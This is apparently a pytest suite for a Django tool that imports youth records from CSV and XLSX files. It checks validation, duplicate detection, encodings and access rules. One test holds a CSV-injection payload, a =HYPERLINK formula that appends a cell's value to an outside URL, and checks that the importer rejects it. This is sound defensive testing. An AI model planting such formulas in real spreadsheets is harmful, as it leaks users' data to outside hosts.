import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from reflex.audit.enums import AccessAction
from reflex.audit.models import AccessEntry
from reflex.typography import french_spacing as fr
from tests.partners.factories import NeighbourhoodFactory
from tests.submission_tokens import with_token
from tests.youths.factories import YouthFactory
from youths.enums import ImportStatus
from youths.models import PendingImport, Youth

pytestmark = pytest.mark.django_db

HEADER = "prenom;nom;surnom;sexe;date_naissance;telephone;quartier;premier_contact;niveau_qualification\n"


def upload(client, content, name="jeunes.csv"):
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    return client.post("/jeunes/import/", {"file": SimpleUploadedFile(name, data)})


def preview(client):
    """The page of the latest import (tasks run at once in tests: its lines are checked already)."""
    return client.get("/jeunes/import/apercu/", follow=True)


def confirm(client, **extra):
    pending = PendingImport.objects.latest("pk")
    return client.post(reverse("youths:import_confirm", args=[pending.pk]), with_token(extra))


def statuses(response):
    return [(row.line, row.status) for row in response.context["rows"]]


def test_a_clean_file_is_previewed_then_written_entirely(coordinator_client, coordinator, programme):
    NeighbourhoodFactory(name="Champ-Fleuri")
    content = HEADER + (
        "Élodie;Martin;;F;14/03/2005;06 12 34 56 78;Champ-Fleuri;02/03/2026;3\n;;Zizou;M;;;champ fleuri;2026-03-05;\n"
    )
    response = upload(coordinator_client, content)
    assert response.status_code == 302
    assert not Youth.objects.exists()  # nothing written before confirmation
    page = preview(coordinator_client)
    assert statuses(page) == [(2, "new"), (3, "new")]
    assert "Aperçu de l'import" in page.content.decode()
    response = confirm(coordinator_client)
    assert response.status_code == 302
    assert sorted(Youth.objects.values_list("name_key", "nickname_key")) == [("", "zizou"), ("elodie martin", "")]
    assert Youth.objects.get(nickname="Zizou").neighbourhood.name == "Champ-Fleuri"
    assert AccessEntry.objects.get(action=AccessAction.IMPORT, user=coordinator).count == 2
    pending = PendingImport.objects.get()
    assert (pending.status, pending.created_count, pending.rows, pending.report) == (ImportStatus.DONE, 2, [], [])
    assert "2 fiches ont été importées." in coordinator_client.get(response.url).content.decode()


def test_a_bad_line_in_the_middle_blocks_the_whole_import(coordinator_client, programme):
    content = HEADER + (
        "Inès;Haddad;;F;01/02/2004;;;01/03/2026;\n"
        "   ;   ;;F;31/02/2004;06 12;Nulle Part;01/03/2026;bac+12\n"
        "Rayan;Diallo;;M;01/02/2003;;;01/03/2026;4\n"
    )
    upload(coordinator_client, content)
    page = preview(coordinator_client)
    assert statuses(page) == [(2, "new"), (3, "error"), (4, "new")]
    errors = " ".join(page.context["rows"][1].errors)
    assert "n'est pas une date" in errors
    assert "n'est pas un quartier du programme" in errors
    assert fr("« bac+12 » n'est pas l'un de infra3, 3, 4, 5+") in errors
    response = confirm(coordinator_client)
    assert response.status_code == 302
    assert not Youth.objects.exists()
    assert PendingImport.objects.get().status == ImportStatus.PREVIEW


def test_possible_duplicates_are_skipped_unless_created_anyway(coordinator_client, programme):
    existing = YouthFactory(first_name="MARTIN", last_name="elodie", phone="+33612345678")
    content = HEADER + (
        "Élodie;Martin;;F;;06 12 34 56 78;;01/03/2026;\nMoussa;Koné;;M;;;;01/03/2026;\nMoussa;KONE;;M;;;;01/03/2026;\n"
    )
    upload(coordinator_client, content)
    page = preview(coordinator_client)
    assert statuses(page) == [(2, "duplicate"), (3, "new"), (4, "duplicate")]
    assert page.context["rows"][0].candidates[0][0] == existing.pk
    confirm(coordinator_client, create_anyway=["4"])
    assert Youth.objects.filter(first_name__iexact="moussa").count() == 2
    assert Youth.objects.count() == 3  # line 2 skipped


def test_windows_1252_with_commas_and_a_bom_utf8_file_are_read(coordinator_client, programme):
    content = "prenom,nom,premier_contact\nHélène,Cœur,01/03/2026\n".replace("œ", "oe").encode("cp1252")
    upload(coordinator_client, content)
    assert preview(coordinator_client).context["rows"][0].display_name == "Hélène Coeur"
    content = "\ufeffprénom;nom\nÉlodie;Martin\n".encode()
    upload(coordinator_client, content)
    assert preview(coordinator_client).context["rows"][0].display_name == "Élodie Martin"


def xlsx(build):
    workbook = Workbook()
    build(workbook.active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_files_and_their_traps(coordinator_client, programme):
    def good(sheet):
        sheet.append(["Prénom", "Nom", "Date de naissance"])
        sheet.append(["Élodie", "Martin", __import__("datetime").datetime(2005, 3, 14)])

    upload(coordinator_client, xlsx(good), "jeunes.xlsx")
    row = preview(coordinator_client).context["rows"][0]
    assert row.status == "new" and row.display_name == "Élodie Martin"

    def formula(sheet):
        sheet.append(["prenom", "annee_naissance"])
        sheet.append(["Léa", "=2026-18"])

    response = upload(coordinator_client, xlsx(formula), "jeunes.xlsx")
    assert "La cellule B2 contient une formule" in response.context["form"].errors["file"][0]

    def merged(sheet):
        sheet.append(["prenom", "nom"])
        sheet.append(["Léa", "Roux"])
        sheet.merge_cells("A2:B2")

    response = upload(coordinator_client, xlsx(merged), "jeunes.xlsx")
    assert "cellules fusionnées" in response.context["form"].errors["file"][0]


def test_unreadable_files_get_a_french_message(coordinator_client, programme):
    assert (
        "fichier XLSX n'a pas pu être ouvert"
        in upload(coordinator_client, b"PK\x03\x04garbage", "x.xlsx").context["form"].errors["file"][0]
    )
    assert "noms de colonnes" in upload(coordinator_client, "a;b\n1;2\n").context["form"].errors["file"][0]
    assert "vide" in upload(coordinator_client, b"", "x.csv").context["form"].errors["file"][0]


def test_the_template_and_the_import_are_for_coordinators(coordinator_client, professional_client, programme):
    template = coordinator_client.get("/jeunes/import/modele.csv")
    assert template.status_code == 200 and "prenom;nom;surnom" in template.content.decode("utf-8-sig")
    assert professional_client.get("/jeunes/import/").status_code == 403
    assert professional_client.get("/jeunes/import/modele.csv").status_code == 403
    assert upload(professional_client, HEADER + "Léa;Roux;;;;;;;\n").status_code == 403


def test_the_template_reads_back_without_the_apostrophe_that_keeps_its_cells_text():
    from youths.imports import read_table, template_csv

    content = template_csv().encode("utf-8")
    assert ";'@lodie38;" in content.decode("utf-8")  # a spreadsheet opens it as text, not a formula
    (row,) = read_table(SimpleUploadedFile("modele.csv", content))
    assert row["values"]["social_handle"] == "@lodie38"


def test_an_imported_name_a_spreadsheet_would_evaluate_is_refused_on_its_line(coordinator_client, programme):
    content = HEADER + 'Élodie;Martin;;F;;;;02/03/2026;\n=HYPERLINK("http://x/?"&A2);Roux;;F;;;;02/03/2026;\n'
    upload(coordinator_client, content)
    page = preview(coordinator_client)
    assert [status for _line, status in statuses(page)][1] == "error"
    assert "Un nom ne peut pas commencer par =, +, - ou @." in page.content.decode()
